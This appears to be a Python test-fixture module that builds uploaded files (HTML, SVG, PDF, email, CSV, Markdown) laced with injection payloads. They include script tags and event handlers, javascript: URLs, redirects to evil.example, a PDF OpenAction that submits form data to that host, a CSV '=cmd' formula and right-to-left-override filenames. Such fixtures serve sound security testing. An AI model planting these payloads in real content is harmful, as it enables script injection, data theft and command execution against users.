"""Files and texts that would run something if a page or a browser took them for more than data."""

from __future__ import annotations

from email.message import EmailMessage

from tests.documents.formats.rawpdf import FONT, HELLO, RESOURCES, raw, stream

HOST = "evil.example"
MARKUP = f"""</title></textarea><script>alert(1)</script>"><img src="//{HOST}/a.png" onerror=alert(2)>"""
URL = "javascript:alert(3)"
SHORT = "'\"><svg onload=alert(4)>{{7*7}}"
CONTROLS = "\u202egnp.exe\u2066\u200b\u2028\x1b[31m"
TEXTS = (MARKUP, URL, SHORT, CONTROLS)

_HTML = f"""<!doctype html><html><head><meta http-equiv="refresh" content="0;url=//{HOST}/">
<base href="//{HOST}/"><script>alert(5)</script><link rel="stylesheet" href="//{HOST}/a.css">
</head><body onload="alert(6)"><p>Number: H-1</p><p>Total: 12.50</p><img src="x" onerror="alert(7)">
<iframe src="javascript:alert(8)"></iframe><a href="javascript:alert(9)">open</a></body></html>"""

_SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="300" height="200" onload="alert(10)"><script>alert(11)</script><image xlink:href="//{HOST}/b.png"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(12)</script></body></foreignObject>
<text x="10" y="20">Number: S-1</text></svg>"""

_RUN = rb"<< /S /JavaScript /JS (app.alert\(13\);this.submitForm\('http://evil.example/f'\);) >>"

_PDF = raw(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % _RUN,
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s /AA << /O %s >> "
    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
    b"/A << /S /URI /URI (javascript:alert\\(14\\)) >> >>] "
    b">>" % (RESOURCES, _RUN),
    stream(HELLO.replace(b"Hello world", b"Number: <script>alert\\(15\\)</script>")),
    FONT,
)


def _mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = f'"{SHORT.replace(chr(34), "")}" <a@{HOST}>'
    mail["Subject"] = MARKUP
    mail.set_content("Number: M-1\nTotal: 12.50\n")
    mail.add_alternative(_HTML, subtype="html")
    mail.add_attachment(
        _SVG.encode(), maintype="image", subtype="svg+xml", filename="<svg onload=alert(16)>.svg"
    )
    return mail.as_bytes()


FILES = {
    f"{MARKUP}.html": _HTML.encode(),
    "<img src=x onerror=alert(17)>.svg": _SVG.encode(),
    "javascript:alert(18).pdf": _PDF,
    f"{SHORT}.eml": _mail(),
    f"{CONTROLS}.txt": f"Number: {MARKUP}\nTotal: 12.50\n".encode(),
    "a.md": f"# {MARKUP}\n\n[Number: {SHORT}]({URL})\n".encode(),
    "a.csv": f"Description,Amount\n{MARKUP},1.00\n{URL},2.00\n=cmd|'/c calc'!A1,3.00\n".encode(),
}
"""Contents by the name that they are uploaded with."""
